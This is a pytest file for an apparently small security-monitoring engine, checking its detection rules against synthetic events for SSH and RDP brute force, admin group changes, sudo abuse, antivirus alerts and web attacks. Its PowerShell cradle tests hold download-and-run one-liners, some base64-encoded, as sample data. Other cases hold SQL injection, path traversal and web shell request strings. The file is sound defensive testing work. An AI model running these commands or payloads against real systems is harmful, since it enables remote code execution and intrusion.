"""soclite's own rules (rules/): each with a positive and a negative event, correlations with sequences."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from soclite.correlator.engine import Engine
from soclite.correlator.loader import load_paths

RULES = Path(__file__).resolve().parents[2] / "rules"
T0 = datetime(2026, 11, 23, 3, 0, 0, tzinfo=UTC)


def ts(seconds: float) -> str:
    return (T0 + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.000Z")


@pytest.fixture()
def engine() -> Engine:
    rs = load_paths([RULES])
    assert not rs.failures, rs.failures
    return Engine(rs)


def titles(engine: Engine, event: dict[str, Any]) -> list[str]:
    return [a.rule_title for a in engine.process(event)]


def test_all_own_rules_load_with_ids_levels_and_attack_tags(engine: Engine) -> None:
    assert len(engine.rules) >= 15 and len(engine.correlations) == 4
    for rule in engine.rules:
        assert rule.level in {"informational", "low", "medium", "high", "critical"}
        assert any(t.startswith("attack.") for t in rule.tags), rule.title
    assert engine.unrouted_rules() == []


def ssh(outcome: str, ip: str, second: float, host: str = "web01") -> dict[str, Any]:
    return {
        "logsource.product": "linux",
        "logsource.service": "sshd",
        "event.action": "ssh_login",
        "event.outcome": outcome,
        "source.ip": ip,
        "user.name": "root",
        "host.name": host,
        "@timestamp": ts(second),
    }


def test_ssh_bruteforce_and_success_after(engine: Engine) -> None:
    seen: list[str] = []
    for i in range(9):
        seen += titles(engine, ssh("failure", "203.0.113.9", i))
    assert seen == []  # building blocks are silent, nine failures are below the threshold
    seen += titles(engine, ssh("failure", "203.0.113.9", 10))
    assert seen == ["SSH Brute Force"]
    alerts = engine.process(ssh("success", "203.0.113.9", 60))
    assert [a.rule_title for a in alerts] == ["SSH Login Succeeded After Brute Force"]
    assert alerts[0].level == "critical" and alerts[0].kind == "correlation"
    assert alerts[0].host == "web01"


def test_ssh_failures_spread_out_or_from_many_sources_do_not_fire(engine: Engine) -> None:
    out: list[str] = []
    for i in range(12):  # one failure per minute: never 10 within 5 minutes
        out += titles(engine, ssh("failure", "203.0.113.9", i * 60))
    for i in range(12):  # ten different sources
        out += titles(engine, ssh("failure", f"198.51.100.{i}", 1000 + i))
    out += titles(engine, ssh("success", "198.51.100.1", 1100))
    assert out == []


def rdp(event_id: int, ip: str, second: float, logon_type: Any = "10") -> dict[str, Any]:
    return {
        "Channel": "Security",
        "EventID": event_id,
        "LogonType": logon_type,
        "IpAddress": ip,
        "TargetUserName": "administrator",
        "Computer": "DC01.tinh.local",
        "host.name": "dc01",
        "@timestamp": ts(second),
    }


def test_rdp_bruteforce_then_success(engine: Engine) -> None:
    out: list[str] = []
    for i in range(10):
        out += titles(engine, rdp(4625, "192.0.2.7", i))
    assert out == ["RDP Brute Force"]
    assert titles(engine, rdp(4624, "192.0.2.7", 30)) == ["RDP Logon Succeeded After Brute Force"]


def test_rdp_network_logon_failures_are_not_rdp(engine: Engine) -> None:
    out: list[str] = []
    for i in range(15):
        out += titles(engine, rdp(4625, "192.0.2.8", i, logon_type=3))
    assert out == []


def test_new_local_admin(engine: Engine) -> None:
    ev = {
        "Channel": "Security",
        "EventID": 4732,
        "TargetSid": "S-1-5-32-544",
        "TargetUserName": "Administrators",
        "MemberSid": "S-1-5-21-1-2-3-1105",
        "Computer": "pc01",
    }
    assert titles(engine, ev) == ["Member Added To Local Administrators"]
    other = dict(ev, TargetSid="S-1-5-32-555", TargetUserName="Remote Desktop Users")
    assert titles(engine, other) == []


def auth(**fields: Any) -> dict[str, Any]:
    return {"logsource.product": "linux", "logsource.service": "auth", "host.name": "db01", **fields}


def test_linux_sudo_group(engine: Engine) -> None:
    assert titles(
        engine,
        auth(**{"event.action": "user_added_to_group", "group.name": "sudo", "user.target.name": "eve"}),
    ) == ["User Added To Sudo Or Wheel Group"]
    assert titles(engine, auth(**{"event.action": "user_added_to_group", "group.name": "docker"})) == []


def test_sudo_and_su_abuse(engine: Engine) -> None:
    assert titles(
        engine, auth(**{"event.action": "sudo", "event.outcome": "failure", "user.name": "www-data"})
    ) == ["Sudo Refused Or Wrong Password"]
    assert (
        titles(
            engine,
            auth(
                **{
                    "event.action": "sudo",
                    "event.outcome": "success",
                    "user.target.name": "root",
                    "process.command_line": "/usr/bin/apt update",
                }
            ),
        )
        == []
    )
    assert titles(engine, auth(**{"event.action": "su", "event.outcome": "failure"})) == [
        "Failed Switch User To Another Account"
    ]
    assert titles(engine, auth(**{"event.action": "su", "event.outcome": "success"})) == []
    assert titles(
        engine,
        auth(
            **{
                "event.action": "sudo",
                "event.outcome": "success",
                "user.target.name": "root",
                "process.command_line": "/bin/bash",
            }
        ),
    ) == ["Interactive Root Shell Via Sudo"]
    assert titles(
        engine,
        auth(
            **{
                "event.action": "sudo",
                "event.outcome": "success",
                "user.target.name": "root",
                "process.command_line": "/usr/bin/su -",
            }
        ),
    ) == ["Interactive Root Shell Via Sudo"]


def test_clamav(engine: Engine) -> None:
    ev = {
        "logsource.product": "clamav",
        "logsource.category": "antivirus",
        "Signature": "Win.Trojan.Agent-1",
        "Filename": "/srv/upload/x.exe",
        "host.name": "mail01",
    }
    alerts = engine.process(ev)
    assert [(a.rule_title, a.severity) for a in alerts] == [("ClamAV Malware Detection", "high")]
    # current (0.103+) and older ClamAV names of the EICAR test file: low, never the high rule
    for name in ("Win.Test.EICAR_HDB-1", "Eicar-Test-Signature", "Eicar-Signature FOUND"):
        eicar = engine.process(dict(ev, Signature=name))
        assert [(a.rule_title, a.severity) for a in eicar] == [("ClamAV EICAR Test File", "low")], name
    assert titles(engine, {"logsource.product": "clamav", "logsource.category": "antivirus"}) == []


def test_windows_defender(engine: Engine) -> None:
    ev = {
        "Channel": "Microsoft-Windows-Windows Defender/Operational",
        "EventID": 1116,
        "ThreatName": "Trojan:Win32/Emotet",
        "Path": "file:_C:\\Users\\a\\x.exe",
        "Computer": "pc02",
    }
    alerts = engine.process(ev)
    assert [(a.rule_title, a.level) for a in alerts] == [("Windows Defender Malware Detection", "high")]
    assert (
        titles(engine, {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": 5007}) == []
    )
    eicar = engine.process(dict(ev, ThreatName="Virus:DOS/EICAR_Test_File"))
    assert [(a.rule_title, a.severity) for a in eicar] == [("Windows Defender EICAR Test File", "low")]


def web(stem: str, query: str = "") -> dict[str, Any]:
    return {
        "logsource.category": "webserver",
        "logsource.product": "nginx",
        "cs-method": "GET",
        "cs-uri-stem": stem,
        "cs-uri-query": query,
        "sc-status": 200,
        "c-ip": "203.0.113.50",
    }


def test_web_attacks(engine: Engine) -> None:
    assert titles(engine, web("/news.php", "id=1%20UNION%20SELECT%20user,pass%20FROM%20users")) == [
        "SQL Injection Attempt In URL"
    ]
    assert titles(engine, web("/download", "file=../../../../etc/passwd")) == [
        "Path Traversal Attempt In URL"
    ]
    assert titles(engine, web("/uploads/c99.php")) == ["Web Shell Access"]
    assert titles(engine, web("/uploads/img.php", "cmd=whoami")) == ["Web Shell Access"]
    assert titles(engine, web("/news.php", "id=12&page=2")) == []
    assert titles(engine, web("/search", "q=selection+of+unions")) == []


def _ps(
    command_line: str, image: str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
) -> dict[str, Any]:
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Computer": "ws-tc-01",
        "Image": image,
        "CommandLine": command_line,
        "@timestamp": ts(0),
    }


def _encoded(script: str) -> str:
    import base64

    return "powershell.exe -NoP -NonI -W Hidden -Enc " + base64.b64encode(script.encode("utf-16-le")).decode()


CRADLE = "PowerShell Download Cradle"


def test_powershell_download_cradle_fires_on_the_demo_record(engine: Engine) -> None:
    """The sample province's story 4, as NXLog JSON through the Windows record mapping."""
    from soclite.collectors.windows import from_json_record
    from soclite.demo import generate

    province = generate(seed=42, base=T0, hours=1)
    records = [rec for _, rec in province.records if "DownloadString" in str(rec.get("CommandLine", ""))]
    assert len(records) == 1
    alerts = engine.process(from_json_record(records[0], default_tz="Asia/Ho_Chi_Minh"))
    cradle = [a for a in alerts if a.rule_title == CRADLE]
    assert len(cradle) == 1
    assert cradle[0].level == "high" and cradle[0].severity == "high"
    assert {"attack.execution", "attack.t1059.001", "attack.t1105"} <= set(cradle[0].tags)


@pytest.mark.parametrize(
    "event",
    [
        _ps(
            "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/a.ps1')\""
        ),
        _ps(
            'pwsh -c "iwr http://185.220.101.7/s.ps1 -UseBasicParsing | iex"',
            "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
        ),
        _ps("powershell Invoke-Expression (Invoke-RestMethod https://paste.example/raw/x)"),
        _ps(
            "powershell (New-Object System.Net.WebClient).DownloadFile('http://x.example/p.exe','C:\\Users\\Public\\p.exe')"
        ),
        _ps("powershell -c Start-BitsTransfer -Source https://x.example/p.exe -Destination $env:TEMP\\p.exe"),
        _ps(_encoded("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a.ps1')")),
        _ps(_encoded("$c=New-Object Net.WebClient;$c.DownloadFile('http://a/b','c:\\b.exe')")),
        {  # Security 4688 (renamed to Sysmon's names by log-source routing)
            "Channel": "Security",
            "EventID": 4688,
            "Computer": "ws-tc-02",
            "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": 'powershell -w 1 "iex(iwr http://203.0.113.5/x -useb)"',
        },
    ],
)
def test_powershell_download_cradle_positive(engine: Engine, event: dict[str, Any]) -> None:
    assert CRADLE in titles(engine, event)


@pytest.mark.parametrize(
    "event",
    [
        _ps("powershell.exe -NoProfile -Command Get-Service | Where-Object Status -eq Running"),
        _ps("powershell Invoke-WebRequest https://intranet.example/health -UseBasicParsing"),  # fetch, no run
        _ps("powershell (New-Object Net.WebClient).DownloadFile($src, 'C:\\backup\\x.zip')"),  # no URL
        _ps("powershell Start-BitsTransfer -Source \\\\fs01\\share\\setup.msi -Destination C:\\tmp"),
        _ps(_encoded("Get-ChildItem C:\\Users -Recurse | Measure-Object")),
        _ps(  # the cradle text, but not run by PowerShell
            "cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('http://a/b') > note.txt",
            "C:\\Windows\\System32\\cmd.exe",
        ),
    ],
)
def test_powershell_download_cradle_negative(engine: Engine, event: dict[str, Any]) -> None:
    assert CRADLE not in titles(engine, event)
